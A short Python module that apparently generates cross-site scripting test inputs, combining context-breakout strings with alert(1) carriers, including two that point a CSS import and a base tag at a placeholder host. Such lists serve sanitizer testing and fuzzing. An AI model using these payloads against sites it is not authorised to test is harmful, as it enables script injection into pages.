"""Texts that try to run in a page: ways to leave text, an attribute, a comment or a template, times some carriers."""

from typing import Final

_WAYS_OUT: Final = (
    "",
    '">',
    "'>",
    "-->",
    "</textarea>",
    "</title>",
    "</style>",
    "</script>",
    "]]>",
    "\x0b",
    "{{",
    "%}",
)
_CARRIERS: Final = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<body onpageshow=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<input autofocus onfocus=alert(1)>",
    "<style>@import'//x.invalid'</style>",
    "<object data=javascript:alert(1)>",
    "<base href=//x.invalid/>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<p style=animation-name:x onanimationstart=alert(1)>",
    "7*7}}<b>x</b>{% raw %}",
    "＜script＞alert(1)＜/script＞",
)
PAYLOADS: Final = [f"{way}{carrier}" for way in _WAYS_OUT for carrier in _CARRIERS]
